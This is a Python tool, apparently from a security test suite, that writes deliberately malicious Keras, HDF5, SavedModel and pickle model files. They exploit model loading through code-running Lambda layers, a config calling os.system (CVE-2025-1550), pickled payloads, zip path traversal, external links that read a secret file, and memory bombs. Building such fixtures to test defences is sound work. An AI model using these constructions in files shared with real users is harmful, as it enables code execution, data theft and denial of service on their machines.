"""Makes model files that do harm to whoever trusts them.

    python -m faults.tools.model_files FOLDER SECRET

Loaded without care, those that hold code make a file `pwned` in the working folder; those that
read show what stands in the file SECRET; the others take the memory of the machine:
tests/faults/test_p16_models.py shows it. The libraries whose files they are write them,
and so this is a process of its own.
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import sys
import zipfile
from pathlib import Path

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

import h5py
import keras
import numpy as np
import tensorflow as tf
from faults.tools.refusals import Payload

_COMMAND = "touch pwned"
_SECRET_BYTES = 16
# What a .keras file holds beside its config and its weights.
_METADATA = {"keras_version": keras.__version__, "date_saved": "2026-01-01@00:00:00"}


def main(folder: Path, secret: Path) -> None:
    """Makes all; the name of each says what it is."""
    for name, write in {
        "a Lambda.keras": _save_lambda,
        "a Lambda of old.h5": _save_lambda,
        "a function by its name.keras": _save_function,
        "a TorchModuleWrapper.keras": _save_torch_module,
        "a SavedModel that writes": _save_saved_model,
        "a TFSMLayer.keras": _save_tfsm_layer,
        "names that lead out.keras": _save_escaping,
        "weights from elsewhere.h5": lambda path: _save_external(path, secret),
        "a link to another.h5": lambda path: _save_link(path, secret),
        "a shape of terabytes.h5": _save_bomb,
        "a config that grows.keras": lambda path: _zip(path, 2**28 * " "),
        "a pickle.pkl": lambda path: path.write_bytes(pickle.dumps(Payload(), protocol=0)),
    }.items():  # fmt: skip
        write(folder / name)


def _lambda_model() -> keras.Model:
    # A lambda is marshalled, and has no names but its own.
    run = lambda x: (__import__("os").system("touch pwned"), x)[1]  # noqa: E731
    return keras.Sequential([keras.Input((2,)), keras.layers.Lambda(run)])


def _save_lambda(path: Path) -> None:
    _lambda_model().save(path)


def _dense() -> str:
    return keras.Sequential([keras.Input((2,)), keras.layers.Dense(1, name="dense")]).to_json()


def _with_layer(**layer: object) -> str:
    """Returns the config of a model of one layer, as JSON."""
    first = {
        "module": "keras.layers", "class_name": "InputLayer",
        "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "x"},
    }  # fmt: skip
    config = {"name": "sequential", "layers": [first, {"module": "keras.layers", **layer}]}
    return json.dumps({"module": "keras", "class_name": "Sequential", "config": config})


def _zip(path: Path, config: str) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", config)
        archive.writestr("metadata.json", json.dumps(_METADATA))
        weights = io.BytesIO()
        h5py.File(weights, "w").close()
        archive.writestr("model.weights.h5", weights.getvalue())


def _save_function(path: Path) -> None:
    """A function of any module in place of a layer's own, with its argument (CVE-2025-1550)."""
    function = {
        "module": "os", "class_name": "function", "config": "system", "registered_name": "system"
    }  # fmt: skip
    node = [{"args": [_COMMAND], "kwargs": {}}]
    layer = {"function": function, "arguments": {}, "name": "run"}
    _zip(path, _with_layer(class_name="Lambda", config=layer, name="run", inbound_nodes=node))


def _save_torch_module(path: Path) -> None:
    """A layer whose module PyTorch unpickles."""
    module = base64.b64encode(pickle.dumps(Payload())).decode()
    config = {"module": {"class_name": "__bytes__", "config": {"value": module}}, "name": "torch"}
    _zip(path, _with_layer(class_name="TorchModuleWrapper", config=config))


class _Written(tf.saved_model.experimental.TrackableResource):
    """What is made anew when a SavedModel is loaded."""

    def _create_resource(self):
        return tf.constant(0, tf.int64)

    def _initialize(self):
        tf.io.write_file("pwned", "")


def _save_saved_model(path: Path) -> None:
    module = tf.Module()
    module.resource = _Written()
    module.serve = tf.function(
        lambda x: x + tf.cast(module.resource.resource_handle, tf.float32),
        input_signature=[tf.TensorSpec([None, 2], tf.float32)],
    )
    tf.saved_model.save(module, str(path))


def _save_tfsm_layer(path: Path) -> None:
    served = str(path.parent.with_name("served"))
    _save_saved_model(Path(served))
    config = {"filepath": served, "call_endpoint": "serve", "name": "served"}
    _zip(path, _with_layer(class_name="TFSMLayer", config=config))


def _save_escaping(path: Path) -> None:
    _zip(path, _dense())
    with zipfile.ZipFile(path, "a") as archive:
        for name in ("../../pwned", "../pwned", f"{path.parent.parent}/pwned"):
            archive.writestr(name, "")


def _save_external(path: Path, secret: Path) -> None:
    """Weights of a dense layer whose bytes lie in another file."""
    with h5py.File(path, "w") as file:
        group = file.create_group("layers/dense/vars")
        outside = [(str(secret), 0, _SECRET_BYTES)]
        group.create_dataset("0", shape=(2, 1), dtype="<f4", external=outside)
        group.create_dataset("1", data=np.zeros(1, np.float32))


def _save_link(path: Path, secret: Path) -> None:
    """Weights that are a link into another file, which holds the secret."""
    other = secret.with_name("other.h5")
    with h5py.File(other, "w") as file:
        file["weights"] = np.frombuffer(secret.read_bytes(), np.uint8)
    with h5py.File(path, "w") as file:
        file["layers"] = h5py.ExternalLink(str(other), "weights")


def _save_bomb(path: Path) -> None:
    with h5py.File(path, "w") as file:
        group = file.create_group("layers/dense/vars")
        group.create_dataset("0", shape=(2**40,), dtype="<f4", chunks=(2**20,), compression="gzip")
        group.create_dataset("1", data=np.zeros(1, np.float32))


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
